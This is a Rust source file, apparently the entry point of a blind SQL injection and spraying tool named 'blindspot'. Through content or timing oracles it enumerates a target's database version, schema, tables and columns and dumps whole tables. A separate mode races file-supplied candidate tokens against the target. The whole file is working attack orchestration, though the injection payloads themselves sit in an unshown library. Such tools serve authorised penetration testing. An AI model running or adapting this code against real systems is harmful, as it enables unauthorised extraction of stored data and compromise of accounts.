mod cli;
mod reporting;

use anyhow::{anyhow, Context};
use blindspot::core::{RateLimiter, Scope};
use blindspot::http::{
    ClientOptions, HttpClient, HttpResponder, InjectionPoint, RequestTemplate, TokenProbe,
};
use blindspot::logging::init_logging;
use blindspot::sqli::{BlindSession, Injection, Marker, Oracle};
use blindspot::{EngineConfig, SprayCandidate, SprayEngine};
use clap::Parser;
use cli::args::Cli;
use reporting::reporter::Reporter;
use reqwest::Method;
use std::sync::Arc;
use url::Url;

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();
    init_logging(cli.verbose, cli.quiet)?;

    if !cli.has_extraction() && cli.spray.is_none() {
        return Err(anyhow!(
            "nothing to do: pass --expr, --current-db, --banner, --tables, --columns, --dump or --spray"
        ));
    }

    let config = cli.engine_config()?;
    let url = Url::parse(&cli.target)
        .with_context(|| format!("invalid target URL {}", cli.target))?;

    // ---- TRANSPORT ----
    let client = Arc::new(HttpClient::with_options(
        Scope::new(&url)?,
        RateLimiter::new(cli.rate),
        ClientOptions {
            cookies: cli.cookie.clone(),
            headers: cli.header_map(),
            proxy: cli.proxy.clone(),
            timeout: Some(cli.request_timeout()?),
        },
    )?);

    let method = Method::from_bytes(cli.method.to_ascii_uppercase().as_bytes())
        .map_err(|_| anyhow!("invalid HTTP method {}", cli.method))?;
    let mut template = RequestTemplate::new(method, url, InjectionPoint::parse(&cli.param)?);
    for (name, value) in cli.data_fields() {
        template = template.with_field(&name, &value);
    }

    // ---- SESSION (dialect is resolved here, before any request) ----
    let session = BlindSession::new(
        config,
        HttpResponder::new(Arc::clone(&client), template.clone()),
    )?
    .with_injection(Injection::new(cli.prefix.as_str(), cli.suffix.as_str()));

    tracing::info!(
        "[*] Target {} ({}), injecting into {}",
        cli.target,
        session.dialect(),
        cli.param
    );
    let mut reporter = Reporter::new(&cli.target, &session.dialect().to_string());

    if let Some(path) = &cli.spray {
        let responder = HttpResponder::new(Arc::clone(&client), template);
        run_spray(&cli, path, session.config(), responder, &mut reporter).await?;
    }

    if cli.has_extraction() {
        if session.config().timing.is_some() {
            let oracle = session.timing_oracle()?;
            run_extraction(&cli, &session, oracle, &mut reporter).await?;
        } else {
            let spec = cli.marker.as_deref().ok_or_else(|| {
                anyhow!("a content oracle needs --marker (or use --time-delay/--time-threshold)")
            })?;
            let oracle = session.content_oracle(Marker::parse(spec)?);
            run_extraction(&cli, &session, oracle, &mut reporter).await?;
        }
    }

    write_report(&cli, &reporter)
}

async fn run_extraction<O: Oracle>(
    cli: &Cli,
    session: &BlindSession<HttpResponder>,
    oracle: O,
    reporter: &mut Reporter,
) -> anyhow::Result<()> {
    let enumerator = session.enumerator(oracle);
    let dialect = session.dialect();

    if let Some(expr) = &cli.expr {
        let value = enumerator
            .extractor()
            .extract_string(expr, session.config().max_len)
            .await?;
        reporter.add_value(expr, value);
    }

    if cli.banner {
        let version = enumerator.version().await?;
        reporter.add_value(dialect.version(), version);
    }

    let needs_schema = cli.tables || cli.columns.is_some() || cli.dump.is_some();
    let mut schema = cli.database.clone();
    if cli.current_db || (schema.is_none() && needs_schema) {
        let name = enumerator.current_schema().await?;
        reporter.add_value(dialect.current_schema(), name.clone());
        if schema.is_none() {
            schema = Some(name);
        }
    }
    let Some(schema) = schema else {
        return Ok(());
    };

    if cli.tables {
        let listing = enumerator.list_tables(&schema).await?;
        reporter.add_listing(&format!("tables in {}", schema), listing);
    }

    if let Some(table) = &cli.columns {
        let listing = enumerator.list_columns(table, &schema).await?;
        reporter.add_listing(&format!("columns of {}.{}", schema, table), listing);
    }

    if let Some(table) = &cli.dump {
        let dump = enumerator.dump_table(table, &schema).await?;
        if !dump.is_complete() {
            tracing::warn!(
                "[!] {} of {}.{} could not be recovered",
                dump.failures.len(),
                schema,
                table
            );
        }
        reporter.add_dump(dump);
    }

    Ok(())
}

async fn run_spray(
    cli: &Cli,
    path: &str,
    config: &EngineConfig,
    responder: HttpResponder,
    reporter: &mut Reporter,
) -> anyhow::Result<()> {
    let raw = tokio::fs::read_to_string(path)
        .await
        .with_context(|| format!("reading candidates from {}", path))?;
    let candidates: Vec<SprayCandidate> = raw
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty())
        .map(SprayCandidate::from)
        .collect();
    let total = candidates.len();

    let marker = cli.spray_marker.clone().unwrap_or_default();
    let mut probe = TokenProbe::new(responder, marker);
    if let Some(cookie) = &cli.spray_cookie {
        probe = probe.correlate_cookie(cookie.as_str());
    }

    let engine = SprayEngine::from_config(config);
    let outcome = match cli.batch_size {
        Some(size) => engine.race_batched(candidates, probe.into_probe(), size).await?,
        None => engine.race(candidates, probe.into_probe()).await?,
    };
    reporter.add_spray(total, outcome);
    Ok(())
}

/// Generate and output the final report
fn write_report(cli: &Cli, reporter: &Reporter) -> anyhow::Result<()> {
    let rendered = match cli.format.as_str() {
        "json" => reporting::json::render(reporter)?,
        _ => reporting::text::render(reporter),
    };

    match &cli.output {
        Some(path) => {
            std::fs::write(path, &rendered)?;
            tracing::info!("Report saved to: {}", path);
        }
        None => println!("{}", rendered),
    }
    Ok(())
}
